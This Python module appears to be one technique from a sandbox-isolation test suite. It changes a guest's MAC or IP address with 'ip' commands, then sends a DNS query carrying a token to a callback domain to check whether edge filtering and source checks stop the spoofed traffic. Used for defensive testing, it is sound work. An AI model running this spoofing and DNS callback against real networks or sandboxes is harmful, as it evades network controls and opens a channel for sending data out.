"""A guest that gives its card another address is another guest."""

import socket
import subprocess
from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Give the guest's interface another MAC and another address, and go on as a program would.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("foreign_mac", "foreign_source", "arp_forged"),
    policies=BOTH,
    variants={one: one for one in ("mac", "address")},
    alone=True,
)


def run(*words: str) -> None:
    """A command, whatever it says."""
    subprocess.run(words, check=False, capture_output=True)


def attack(case: Case, what: Any) -> None:
    ground = case.ground

    link = inside.interface()
    try:
        run("ip", "link", "set", link, "address", "52:54:00:00:00:77") if what == "mac" else run(
            "ip", "addr", "add", "10.0.0.9/24", "dev", link
        )
        if what == "mac":
            run("ip", "link", "set", link, "up")
            run("ip", "route", "replace", "default", "via", ground.gateway)
        answer = inside.ask(inside.question(f"{case.token}.{ground.callback}"), ground.gateway, seconds=1) if what == "mac" else None
        if what != "mac":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.bind(("10.0.0.9", 0))
                sock.sendto(inside.question(f"{case.token}.{ground.callback}"), (ground.gateway, 53))
        case.did(f"asked with another {what}: {inside.told(answer)}")
    finally:
        run("ip", "link", "set", link, "address", "52:54:00:00:00:02")
        run("ip", "addr", "del", "10.0.0.9/24", "dev", link)
